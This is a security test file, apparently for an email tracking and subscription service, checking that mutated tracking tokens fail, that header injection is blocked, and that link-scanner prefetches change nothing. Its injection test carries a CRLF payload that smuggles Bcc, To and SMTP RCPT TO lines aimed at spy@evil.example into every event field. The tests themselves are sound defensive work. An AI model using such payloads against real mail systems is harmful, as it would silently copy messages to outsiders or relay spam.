import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { CHROME, createAttacker, signUp, type SentEvent } from '../support/createAttacker.ts'
import { headerOf, linkIn } from '../support/readMail.ts'
import { sendRaw } from '../support/sendFrom.ts'
import { startSmtpCatcher, type SmtpCatcher } from '../support/startSmtpCatcher.ts'
import { startTestServer, type TestServer } from '../support/startTestServer.ts'

let smtp: SmtpCatcher
let server: TestServer
let attacker: ReturnType<typeof createAttacker>
beforeAll(async () => {
  smtp = await startSmtpCatcher()
  server = await startTestServer({
    environment: { SMTP_URL: smtp.url },
  })
  await server.api.set({ openTracking: 'full' })
  attacker = createAttacker(server)
})
afterAll(async () => {
  await server.stop()
  await smtp.stop()
})

const fromBrowser = (events: SentEvent[], from?: string) => attacker.fromBrowser(events, from)
const fromShop = (...events: SentEvent[]) => server.api.send(events)
const settle = () => server.api.passTime(1_000)

const googleImageProxy =
  'Mozilla/5.0 (Windows NT 5.1; rv:11.0) Gecko Firefox/11.0 (via ggpht.com GoogleImageProxy)'

describe('token mutation', () => {
  it('every byte of the tokens of an open pixel, a preference page and a command line: nothing, no Location', async () => {
    const email = 'mutated@example.com'
    await fromShop(
      { type: 'identify', userId: 'mutated', traits: { email } },
      { type: 'track', event: 'Subscribed', userId: 'mutated' },
    )
    const welcome = await smtp.waitForMail(email)
    await settle()
    const { id } = await server.api.customerWith({ email })
    const before = await attacker.allOf(id)
    const pixel = /\/o\/([\w-]+\.[\w-]+)/.exec(welcome.email.html ?? '')![1]!
    const preferences = new URL(linkIn(welcome, '/p/')).pathname.split('/')[2]!
    const wrong: unknown[] = []
    const look = async (
      method: string,
      path: string,
      expected: number,
      headers: Record<string, string> = {},
    ) => {
      const answer = await sendRaw(server.url, path, { method, headers })
      if (answer.status !== expected || answer.headers['location'] !== undefined)
        wrong.push([method, path, answer.status])
    }
    for (const [path, token] of [
      ['o', pixel],
      ['p', preferences],
    ] as const) {
      for (let place = 0; place < token.length; place += 1) {
        for (const other of ['A', '-']) {
          if (token[place] === other || (token[place] === '.' && other === '-')) continue
          const mutated = token.slice(0, place) + other + token.slice(place + 1)
          await look(path === 'o' ? 'GET' : 'POST', `/${path}/${mutated}`, 404)
        }
      }
      // A mail's token is no key of the API.
      await look('GET', '/api/customers', 401, { authorization: `Bearer ${token}` })
    }
    expect(wrong).toEqual([])
    expect(await attacker.allOf(id)).toEqual(before)
  })
})

describe('header and address injection', () => {
  const headersOf = (raw: Buffer) =>
    raw
      .toString('latin1')
      .split('\r\n\r\n')[0]!
      .replaceAll(/\r\n[ \t]+/g, ' ')
      .split('\r\n')
      .map((line) => line.split(':')[0]!.toLowerCase())

  it('CRLF in every field of every event: one recipient, and the headers of any other mail', async () => {
    const inject =
      'x\r\nBcc: spy@evil.example\r\nTo: spy@evil.example\nX-Evil: 1\r\n\r\n<b>body</b>\r\n.\r\nRCPT TO:<spy@evil.example>'
    const bag = Object.fromEntries(
      ['firstName', 'lastName', 'name', 'locale', 'language', 'country', 'timezone', 'company', 'title'].map(
        (name) => [name, inject],
      ),
    )
    const everywhere = (name: string) => ({
      context: { ...bag, userAgent: inject, ip: inject, page: { url: inject, title: inject }, campaign: bag },
      properties: { ...bag, text: inject, method: inject, topic: inject, textVersion: inject },
      messageId: `${name} \r\nBcc: spy@evil.example`,
    })
    const send = async (userId: string, more: (name: string) => SentEvent, traits: SentEvent) => {
      const email = `${userId}@example.com`
      await fromShop({ ...more(`${userId} i`), type: 'identify', userId, traits: { ...traits, email } })
      await fromShop({ ...more(`${userId} s`), type: 'track', event: 'Subscribed', userId })
      await fromBrowser([
        {
          ...more(`${userId} b`),
          type: 'track',
          event: 'Subscribed',
          anonymousId: `${userId} at another browser`,
          properties: { ...(more('')['properties'] as SentEvent | undefined), email: `sent-by-${email}` },
        },
      ])
      return [await smtp.waitForMail(email), await smtp.waitForMail(`sent-by-${email}`)]
    }
    const plain = await send('plain', () => ({}), {})
    const injected = await send('injected', everywhere, bag)
    await settle()
    for (const [place, mail] of injected.entries()) {
      expect(mail.envelope.to).toHaveLength(1)
      expect(headersOf(mail.raw)).toEqual(headersOf(plain[place]!.raw))
      expect(mail.email.to).toEqual([{ name: '', address: mail.envelope.to[0] }])
      expect(headerOf(mail, 'subject')).toBe(headerOf(plain[place]!, 'subject'))
      expect(mail.email.html).not.toContain('<b>body</b>')
      expect(headerOf(mail, 'feedback-id')).toBe(headerOf(plain[place]!, 'feedback-id'))
    }
    const recipients = smtp.mails.flatMap(({ envelope }) => envelope.to)
    expect(recipients.filter((to) => to.includes('evil'))).toEqual([])
  })
})

describe('scanner prefetch', () => {
  it('GET and HEAD of every link of a mail by scanners change no state and send nothing', async () => {
    const email = 'scanned@example.com'
    await fromBrowser([signUp(email, 'scanned')])
    const confirmation = await smtp.waitForMail(email)
    await fromShop(
      { type: 'identify', userId: 'scanned', traits: { email: 'scanned-too@example.com' } },
      { type: 'track', event: 'Subscribed', userId: 'scanned' },
    )
    const welcome = await smtp.waitForMail('scanned-too@example.com')
    await settle()
    const ids = await Promise.all(
      [email, 'scanned-too@example.com'].map(
        async (one) => (await server.api.customerWith({ email: one })).id,
      ),
    )
    const states = () =>
      Promise.all(
        ids.map(async (id) => {
          const { customer, transitions, messages } = await attacker.allOf(id)
          return { customer, transitions, messages }
        }),
      )
    const before = await states()
    const sent = smtp.mails.length
    const pixel = /http[^"]+\/o\/[\w-]+\.[\w-]+/.exec(welcome.email.html ?? '')![0]
    const links = [
      linkIn(confirmation, '/confirm/'),
      linkIn(welcome, '/c/'),
      linkIn(welcome, '/u/'),
      linkIn(welcome, '/p/'),
      headerOf(welcome, 'list-unsubscribe')!.slice(1, -1),
      pixel,
    ]
    const scanners: Record<string, string>[] = [
      {},
      { 'user-agent': '' },
      { 'user-agent': googleImageProxy },
      { 'user-agent': 'Barracuda Sentinel (EE)' },
      { 'user-agent': CHROME, 'sec-purpose': 'prefetch;prerender' },
      { 'user-agent': CHROME, purpose: 'preview' },
    ]
    const statuses = new Set<number>()
    for (const link of links) {
      for (const headers of scanners) {
        for (const method of ['GET', 'HEAD']) {
          statuses.add((await sendRaw(server.url, new URL(link).pathname, { method, headers })).status)
        }
      }
      statuses.add(
        (
          await sendRaw(server.url, new URL(link).pathname, {
            method: 'HEAD',
            headers: { 'user-agent': CHROME },
          })
        ).status,
      )
    }
    expect(statuses).toEqual(new Set([200, 302]))
    await settle()
    expect(await states()).toEqual(before)
    expect(smtp.mails.length).toBe(sent)
    // They are kept, as what they are.
    const fetched = (await Promise.all(ids.map((id) => server.api.events(id)))).flat()
    const classes = fetched.flatMap(({ properties }) => properties['class'] ?? [])
    expect(classes.length).toBeGreaterThan(20)
    expect(new Set(classes)).toEqual(new Set(['machine']))
  })

  it('even a scanner that looks like a browser changes nothing by opening a page', async () => {
    const confirmation = smtp.mailsTo('scanned@example.com')[0]!
    const welcome = smtp.mailsTo('scanned-too@example.com')[0]!
    const permissions = async () =>
      await Promise.all(
        ['scanned@example.com', 'scanned-too@example.com'].map(
          async (email) => (await server.api.customerWith({ email })).lifecycle,
        ),
      )
    const before = await permissions()
    expect(before.map(({ permission }) => permission)).toEqual(['pending', 'subscribed'])
    for (const link of [linkIn(confirmation, '/confirm/'), linkIn(welcome, '/u/'), linkIn(welcome, '/p/')]) {
      const path = new URL(link).pathname
      expect((await sendRaw(server.url, path, { headers: { 'user-agent': CHROME } })).status).toBe(200)
      for (const method of ['PUT', 'DELETE', 'PATCH'])
        expect((await sendRaw(server.url, path, { method })).status).toBe(404)
    }
    expect(await permissions()).toEqual(before)
  })
})
